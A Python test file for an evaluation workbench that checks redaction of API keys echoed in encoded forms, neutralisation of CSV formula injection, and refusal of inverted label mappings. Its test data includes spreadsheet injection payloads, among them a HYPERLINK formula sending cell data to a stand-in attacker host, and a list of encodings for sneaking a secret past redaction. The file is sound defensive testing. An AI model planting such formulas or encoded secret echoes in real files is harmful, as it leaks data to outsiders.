"""Issue 28, point 11 (the lower items of the audit): encoded secrets, CSV formula injection,
unneeded or inverted label mappings.

Reproductions (old main):

- a. Redaction was literal: a provider echoing the API key base64-encoded, reversed, as hex,
  URL-encoded or split by a zero-width space left the key in ``results.jsonl`` and in the locked,
  hashed report; a secret of the environment other than the candidate's key was never looked
  for, and ``certify`` locked a report holding it.
- b. ``adjudication_needed.csv`` and the review notes' ``.csv`` export wrote ``=HYPERLINK(...)``,
  ``@SUM(...)``, ``+...`` and ``-...`` cells as they were: a spreadsheet runs them as formulas.
- c. A label mapping nothing needed was accepted, even one inverting pass and fail: ``certify
  --baseline`` and ``compare`` read the old version's ``pass`` as ``fail``; ``import results``
  took ``labels: {pass: fail, fail: pass}`` or a threshold whose passing side is labelled
  ``fail``; ``import table`` turned the reviewers' ``pass`` into a gold ``fail``.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import shutil
import unicodedata
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
import yaml
from click.testing import CliRunner
from conftest import approve
from test_compare import function_spec
from test_import_results import GOLD, MAPPING, PREDICTIONS, PROMPT, cases

from workbench._redact import REDACTED, redact
from workbench.cli.main import main
from workbench.heldout import HeldOutLedger, ledger_path_for
from workbench.reports import verify_report

ROOT = Path(__file__).resolve().parents[1]
DEMO = ROOT / "data" / "demo"
CANDIDATES = ROOT / "data" / "candidates"
POLICIES = ROOT / "data" / "policies"
KEY = "sk-cert-7Qm2+never/in_a-file-91b4"
"""The candidate's API key (with the characters base64 and URL-encoding treat specially)."""
OTHER = "ghp_Zx81payments0token7Kd2Qw"
"""Another credential of the environment, which the candidate's redaction does not know."""


def invoke(*args: Any) -> Any:
    return CliRunner().invoke(main, [str(a) for a in args])


def fresh_gold(directory: Path) -> Path:
    gold = directory / "gold"
    shutil.copytree(DEMO, gold)
    return gold


# -- a. encoded secrets ------------------------------------------------------------------------


def base64_cores(secret: str) -> list[str]:
    """What every base64 text holding ``secret`` contains, at each of the three alignments
    (computed here independently of the workbench)."""
    data = secret.encode()
    out = []
    for offset in range(3):
        encoded = base64.b64encode(b"\0" * offset + data).decode()
        start = 4 if offset else 0
        end = (offset + len(data)) // 3 * 4
        out += [encoded[start:end], encoded[start:end].replace("+", "-").replace("/", "_")]
    return out


def encodings(secret: str) -> dict[str, str]:
    """The echoes of ``secret`` the audit tried, as a hostile model would write them."""
    data = secret.encode()
    return {
        "base64": base64.b64encode(b"Authorization: Bearer " + data).decode(),
        "base64 url-safe, offset 1": base64.urlsafe_b64encode(b"k" + data + b"!").decode(),
        "reversed": secret[::-1],
        "hex": data.hex(),
        "hex upper with colons": ":".join(f"{b:02X}" for b in data),
        "url-encoded": quote(secret, safe=""),
        "every character %XX": "".join(f"%{b:02x}" for b in data),
        "zero-width split": secret[:6] + "\u200b" + secret[6:14] + "\u2060" + secret[14:],
        "whitespace split": secret[:9] + " \n " + secret[9:],
    }


def traces(secret: str) -> list[bytes]:
    """Byte strings whose presence in a file shows ``secret`` leaked in an encoded form."""
    data = secret.encode()
    return [
        *(core.encode() for core in base64_cores(secret)),
        secret[::-1].encode(),
        data.hex().encode(),
        data.hex().upper().encode(),
        quote(secret, safe="").encode(),
        quote(secret[14:], safe="").encode(),  # the tail of a URL-encoded key
        secret[14:].encode(),  # the tail of a split key
        secret[9:].encode(),
    ]


@pytest.mark.parametrize("form", list(encodings(KEY)))
def test_redaction_removes_every_encoded_form_of_the_key(form: str) -> None:
    text = f"upstream said: {encodings(KEY)[form]} (try again)"
    redacted = redact(text, [KEY])
    assert REDACTED in redacted and redacted.startswith("upstream said: ")
    leaked = [t for t in traces(KEY) if t.decode() in redacted]
    assert leaked == [], (form, redacted)


@pytest.mark.parametrize("form", list(encodings(KEY)))
def test_a_raw_answer_hides_no_encoded_key_behind_json_escapes(form: str) -> None:
    """The provider's raw answer is stored beside the verdict: a key split by ``\\u200b`` or
    ``\\n`` escapes inside its JSON must not survive (its patterns read the decoded view too:
    an error body carries JSON the same way)."""
    import json

    raw = json.dumps({"verdict": "fail", "reason": f"[debug {encodings(KEY)[form]}]"})
    stored = redact(raw, [KEY])
    assert REDACTED in stored
    assert [t for t in traces(KEY) if t.decode() in stored] == [], (form, stored)
    clean = json.dumps({"verdict": "pass", "reason": "steps\nand \u00e9"})
    assert redact(clean, [KEY]) == clean  # verbatim when nothing is hidden


def test_find_encoded_names_each_form_and_finds_none_after_redaction() -> None:
    from workbench._redact import find_encoded

    found = {form: find_encoded(text, KEY) for form, text in encodings(KEY).items()}
    assert found == {
        "base64": ["base64"],
        "base64 url-safe, offset 1": ["base64"],
        "reversed": ["reversed"],
        "hex": ["hex"],
        "hex upper with colons": ["hex"],
        "url-encoded": ["literal"],
        "every character %XX": ["literal"],
        "zero-width split": ["literal"],
        "whitespace split": ["literal"],
    }
    assert all(find_encoded(redact(text, [KEY]), KEY) == [] for text in encodings(KEY).values())


def test_ordinary_text_and_short_values_are_left_alone() -> None:
    from workbench._redact import ENCODED_MIN_LENGTH, find_encoded

    text = "The refund arrives in 5 business days; see https://example.com/help?topic=refunds."
    assert redact(text, [KEY, OTHER]) == text and find_encoded(text, KEY) == []
    # A short known value is only replaced literally: its encodings would match ordinary words.
    assert redact("a-key a-ke", ["a-key"]) == f"{REDACTED} a-ke"
    assert len("a-key") < ENCODED_MIN_LENGTH


def test_the_format_characters_class_is_every_unicode_cf_character() -> None:
    from workbench._redact import _FORMAT_CHARACTERS

    pattern = re.compile(f"[{_FORMAT_CHARACTERS}]")
    categories = {
        c: unicodedata.category(chr(c)) for c in range(0x110000) if pattern.fullmatch(chr(c))
    }
    missing = [
        hex(c)
        for c in range(0x110000)
        if unicodedata.category(chr(c)) == "Cf" and c not in categories
    ]
    assert missing == []
    # Beyond them only code points this Python's Unicode does not assign yet (Cf in Unicode 15).
    assert {cat for cat in categories.values()} <= {"Cf", "Cn"}


def llm_candidate(directory: Path, base_url: str) -> Path:
    spec = yaml.safe_load((CANDIDATES / "support-llm-judge@1.yaml").read_text())
    spec["endpoint"]["base_url"] = base_url
    (directory / "prompts").mkdir(parents=True)
    shutil.copyfile(
        CANDIDATES / "prompts" / "support-llm-judge@1.md",
        directory / "prompts" / "support-llm-judge@1.md",
    )
    path = directory / "support-llm-judge@1.yaml"
    path.write_text(yaml.safe_dump(spec))
    return path


def echoing(secret: str):
    """The demo model, every reason followed by an encoded echo of ``secret`` (one form per
    call, in turn)."""
    from workbench.demo.fake_llm import respond
    from workbench.testing import Reply

    forms = list(encodings(secret).values())
    calls = [0]

    def reply(request):
        answer = respond(request)
        calls[0] += 1
        echo = forms[calls[0] % len(forms)]
        return Reply(value=answer.value, reason=f"{answer.reason} [debug {echo}]")

    return reply


def certify_llm(tmp_path: Path, secret: str) -> tuple[Any, Path, Path]:
    """Certify the demo's LLM judge on a fresh copy of the demo gold, its model echoing
    ``secret`` encoded; the CLI result, the gold and the reports root."""
    from workbench.testing import FakeLLM

    gold, reports = fresh_gold(tmp_path), tmp_path / "reports"
    with FakeLLM(responder=echoing(secret), require_api_key=KEY) as server:
        spec = llm_candidate(tmp_path / "candidates", server.base_url)
        result = invoke(
            "certify",
            "--candidate",
            spec,
            "--policy",
            POLICIES / "support-release@1.yaml",
            "--gold",
            gold,
            "--reports",
            reports,
        )
    return result, gold, reports


@pytest.mark.notebook
def test_encoded_echoes_of_the_key_never_reach_the_locked_report(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DEMO_LLM_API_KEY", KEY)  # the notebook kernel inherits the environment
    result, _, reports = certify_llm(tmp_path, KEY)
    assert result.exit_code in (1, 4), result.output  # quality_failed or review_required
    (lock_file,) = reports.rglob("lock.json")
    assert verify_report(lock_file.parent) == []
    scanned = [p for p in reports.rglob("*") if p.is_file()]
    assert len(scanned) >= 10
    leaked = [(p.name, t) for p in scanned for t in traces(KEY) if t in p.read_bytes()]
    assert leaked == []
    reasons = (lock_file.parent / "restricted" / "run" / "results.jsonl").read_text()
    assert reasons.count("[debug [REDACTED]") >= 20  # the echoes were there, and redacted


@pytest.mark.notebook
def test_certify_refuses_to_lock_a_report_holding_a_secret_of_the_environment(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DEMO_LLM_API_KEY", KEY)
    monkeypatch.setenv("PAYMENTS_API_TOKEN", OTHER)  # not the candidate's: never redacted
    result, gold, reports = certify_llm(tmp_path, OTHER)
    assert result.exit_code == 2, result.output
    assert "[secret_in_report]" in result.output and "$PAYMENTS_API_TOKEN" in result.output
    assert "restricted/run/results.jsonl" in result.output and "Traceback" not in result.output
    assert OTHER not in result.output and "$DEMO_LLM_API_KEY" not in result.output
    assert list(reports.rglob("lock.json")) == []  # nothing was locked
    (entry,) = [e for e in HeldOutLedger(ledger_path_for(gold)).entries() if e.event != "started"]
    assert entry.event == "aborted"  # the held-out use is recorded, and counts


def test_the_lock_check_names_every_file_and_form_never_the_value(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from workbench._redact import environment_secrets, secrets_in_files

    monkeypatch.setenv("PAYMENTS_API_TOKEN", OTHER)
    monkeypatch.setenv("SHORT_TOKEN", "abc")  # too short to be searched for
    monkeypatch.setenv("SIGNING_KEY_PATH", "/home/ci/.ssh/id_ed25519")  # a path, not a secret
    secrets = environment_secrets()
    assert secrets.get("PAYMENTS_API_TOKEN") == OTHER
    assert "SHORT_TOKEN" not in secrets and "SIGNING_KEY_PATH" not in secrets
    report = tmp_path / "report"
    (report / "restricted").mkdir(parents=True)
    (report / "gate.json").write_text('{"note": "' + OTHER[:8] + "\\u200b" + OTHER[8:] + '"}')
    (report / "restricted" / "cases.html").write_text(
        "<p>" + "".join(f"&#{ord(c)};" for c in OTHER[::-1]) + "</p>"
    )
    (report / "clean.md").write_text("nothing here")
    found = secrets_in_files(report, {"PAYMENTS_API_TOKEN": OTHER})
    assert found == [
        ("gate.json", "PAYMENTS_API_TOKEN", ["literal"]),
        ("restricted/cases.html", "PAYMENTS_API_TOKEN", ["reversed"]),
    ]


# -- b. CSV formula injection --------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "@SUM(1+1)", "+1+cmd", "-2+cmd"]


def test_adjudication_needed_csv_neutralizes_formula_cells(tmp_path: Path) -> None:
    rows = [
        [FORMULAS[0], "A1.", FORMULAS[1], "1", "0", ""],
        [FORMULAS[2], "A2.", FORMULAS[3], "1", "0", ""],
        ["Q3", "A3.", "plain", "1", "0", ""],
    ]
    source = tmp_path / "wide.csv"
    with open(source, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh, lineterminator="\n")
        writer.writerow(["question", "answer", "topic", "ann_a", "ann_b", "final"])
        writer.writerows(rows)
    mapping = tmp_path / "m.yaml"
    mapping.write_text(
        "name: wide\ninput: question\nresponse: answer\ncase_id: question\n"
        'grading_notes: {value: "Correct."}\nslice: topic\n'
        "partition: {assign: {seed: 3, development: 1, calibration: 0, held_out: 0}}\n"
        "reviews: {form: wide, columns: {alice: ann_a, bob: ann_b}}\n"
        "labels: {0: fail, 1: pass}\n"
        "adjudication: {column: final, rule: majority, adjudicator: {value: lead}}\n",
        encoding="utf-8",
    )
    out = tmp_path / "gold"
    result = invoke("import", "table", source, "--mapping", mapping, "--out", out)
    assert result.exit_code == 4, result.output  # three cases wait for an adjudicator
    pending = list(csv.DictReader(io.StringIO((out / "adjudication_needed.csv").read_text())))
    cells = [(p["case_id"], p["slice"]) for p in pending]
    assert cells == [
        ("'" + FORMULAS[0], "'" + FORMULAS[1]),
        ("'" + FORMULAS[2], "'" + FORMULAS[3]),
        ("Q3", "plain"),
    ]
    assert all(p["reviews"] == "alice=pass; bob=fail" for p in pending)
    # The gold keeps the exact values: only the file for people is neutralized.
    gold = (out / "gold.jsonl").read_text(encoding="utf-8")
    assert '"case_id": "=HYPERLINK' in gold or '"case_id":"=HYPERLINK' in gold


def test_review_notes_csv_export_neutralizes_formula_cells(tmp_path: Path) -> None:
    import pandas as pd

    from workbench.review import ReviewNotes

    notes = ReviewNotes(tmp_path / "notes.jsonl")
    texts = [*FORMULAS, "\tindented", "\rreturn", "fine, a plain note"]
    for i, text in enumerate(texts):
        notes.add(f"c{i}", "parser_bug", text, reviewer="ana", judge_fingerprint="fp")
    with open(notes.export(tmp_path / "notes.csv"), newline="", encoding="utf-8") as fh:
        exported = [row["note"] for row in csv.DictReader(fh)]
    assert exported == [*("'" + t for t in texts[:-1]), texts[-1]]
    exact = pd.read_parquet(notes.export(tmp_path / "notes.parquet"))
    assert exact["note"].tolist() == texts  # the machine-read export keeps every value exactly


# -- c. unneeded or inverted label mappings ------------------------------------------------------


def mapping_file(folder: Path, mapping: dict[str, str], **fields: str) -> Path:
    approve(folder, "Quality lead")  # a mapping's approver is in the project's list
    path = folder / "mapping.yaml"
    data = {
        "schema_version": 1,
        "approver": "Quality lead",
        "approved": "2026-12-01",
        "reason": "labels unchanged",
        "mapping": mapping,
        **fields,
    }
    path.write_text(yaml.safe_dump(data), encoding="utf-8")
    return path


def test_certify_refuses_an_unneeded_inverted_baseline_mapping(tmp_path: Path) -> None:
    gold = fresh_gold(tmp_path)
    inverted = mapping_file(
        tmp_path / "mappings",
        {"pass": "fail", "fail": "pass"},
        **{"from": "rubric-judge@2", "to": "rubric-judge@3"},
    )
    result = invoke(
        "certify",
        "--candidate",
        CANDIDATES / "rubric-judge@3.yaml",
        "--policy",
        POLICIES / "support-release@3.yaml",
        "--gold",
        gold,
        "--reports",
        tmp_path / "reports",
        "--baseline",
        CANDIDATES / "rubric-judge@2.yaml",
        "--label-mapping",
        inverted,
    )
    assert result.exit_code == 2, result.output
    assert "[label_mapping_unneeded]" in result.output
    assert "[label_mapping_relabels]" in result.output and "'pass' -> 'fail'" in result.output
    assert "Traceback" not in result.output
    ledger = ledger_path_for(gold)
    assert not ledger.exists() or not HeldOutLedger(ledger).entries()  # refused before held-out
    assert not (tmp_path / "reports").exists() or not list((tmp_path / "reports").rglob("*.json"))


def test_compare_refuses_a_mapping_that_relabels_a_shared_label(
    make_dataset, tmp_path: Path
) -> None:
    from conftest import make_case

    gold = make_dataset(
        [make_case(f"g{i}", "pass", partition="calibration", slice="general") for i in range(4)]
    )
    specs = tmp_path / "c"
    specs.mkdir()
    # The old version renamed one label (so a mapping is needed) and the mapping also flips fail.
    labels = ["pass", "fail", "review_required", "unsure"]
    old = function_spec(specs, "mig", "1", "old_judge", labels=labels)
    new = function_spec(specs, "mig", "2", "new_judge")
    flips = {"pass": "pass", "fail": "pass", "review_required": "review_required"}
    mapping = mapping_file(tmp_path / "mappings", {**flips, "unsure": "review_required"})
    result = invoke(
        "compare",
        "--old",
        old,
        "--new",
        new,
        "--gold",
        gold,
        "--partition",
        "calibration",
        "--no-progress",
        "--no-controls",
        "--no-cache",
        "--out",
        tmp_path / "out",
        "--label-mapping",
        mapping,
    )
    assert result.exit_code == 2, result.output
    assert "[label_mapping_relabels]" in result.output and "'fail' -> 'pass'" in result.output
    assert "label_mapping_unneeded" not in result.output  # 'unsure' does need mapping
    assert not (tmp_path / "out" / "old").exists()  # nothing was judged


@pytest.fixture
def vendor(make_dataset, tmp_path: Path) -> tuple[Path, Path]:
    """Gold and a folder of predictions whose verdicts already are rubric labels."""
    gold = make_dataset(cases())
    folder = tmp_path / "vendor"
    folder.mkdir()
    predictions = PREDICTIONS.replace(",correct,", ",pass,").replace(",incorrect,", ",fail,")
    (folder / "predictions.csv").write_text(
        predictions.replace(",unsure,", ",review_required,"), encoding="utf-8"
    )
    (folder / "prompt.md").write_text(PROMPT, encoding="utf-8")
    return gold, folder


def import_with(vendor: tuple[Path, Path], out: Path, **changes: Any) -> Any:
    gold, folder = vendor
    mapping = {k: v for k, v in {**MAPPING, **changes}.items() if v is not None}
    (folder / "mapping.yaml").write_text(yaml.safe_dump(mapping, sort_keys=False))
    return invoke(
        "import",
        "results",
        folder / "predictions.csv",
        "--gold",
        gold,
        "--mapping",
        folder / "mapping.yaml",
        "--out",
        out,
    )


def test_import_results_refuses_an_unneeded_inverted_label_mapping(
    vendor: tuple[Path, Path], tmp_path: Path
) -> None:
    flipped = {"pass": "fail", "fail": "pass", "review_required": "review_required"}
    inverted = import_with(vendor, tmp_path / "a", labels=flipped)
    assert inverted.exit_code == 2, inverted.output
    assert inverted.output.count("[mapping_relabels]") == 2 and "Traceback" not in inverted.output
    assert not (tmp_path / "a" / "results.jsonl").exists()
    same = {"pass": "pass", "fail": "fail", "review_required": "review_required"}
    identity = import_with(vendor, tmp_path / "b", labels=same)
    assert identity.exit_code == 2 and "[mapping_labels_unneeded]" in identity.output
    # Without the mapping the same predictions import as they are.
    plain = import_with(vendor, tmp_path / "c", labels=None)
    assert plain.exit_code == 0, plain.output
    values = {
        r["case_id"]: r["value"] for r in map(json.loads, (tmp_path / "c" / "results.jsonl").open())
    }
    assert (values["c01"], values["c02"], values["c05"]) == ("pass", "fail", "review_required")


def test_import_results_refuses_a_threshold_that_inverts_the_verdicts(
    vendor: tuple[Path, Path], tmp_path: Path
) -> None:
    gold, folder = vendor
    (folder / "predictions.csv").write_text(
        "id,score\n" + "".join(f"{cid},0.{i}\n" for i, (cid, *_) in enumerate(GOLD)),
        encoding="utf-8",
    )
    judge = {**MAPPING["judge"]}
    result = import_with(
        vendor,
        tmp_path / "out",
        label=None,
        labels=None,
        reason=None,
        latency_s=None,
        tokens_in=None,
        tokens_out=None,
        cost_usd=None,
        score="score",
        threshold={"value": 0.5, "pass_label": "fail", "fail_label": "pass"},
        judge=judge,
    )
    assert result.exit_code == 2, result.output
    assert result.output.count("[mapping_threshold_inverted]") == 2
    assert not (tmp_path / "out" / "results.jsonl").exists()


def test_import_table_refuses_a_mapping_that_inverts_the_reviewers_labels(tmp_path: Path) -> None:
    source = tmp_path / "reviews.csv"
    source.write_text(
        "question,answer,ann_a,ann_b\n"
        + "".join(f"Q{i}?,A{i}.,{lab},{lab}\n" for i, lab in enumerate(["pass", "fail"] * 3)),
        encoding="utf-8",
    )
    mapping = tmp_path / "m.yaml"
    mapping.write_text(
        "name: flipped\ninput: question\nresponse: answer\n"
        'grading_notes: {value: "Correct."}\nslice: {value: general}\n'
        "partition: {assign: {seed: 3, development: 1, calibration: 0, held_out: 0}}\n"
        "reviews: {form: wide, columns: {alice: ann_a, bob: ann_b}}\n"
        "labels: {pass: fail, fail: pass}\n"
        "adjudication: {rule: majority}\n",
        encoding="utf-8",
    )
    out = tmp_path / "gold"
    result = invoke("import", "table", source, "--mapping", mapping, "--out", out)
    assert result.exit_code == 2, result.output
    assert result.output.count("[mapping_relabels]") == 2 and "Traceback" not in result.output
    assert not (out / "gold.jsonl").exists()
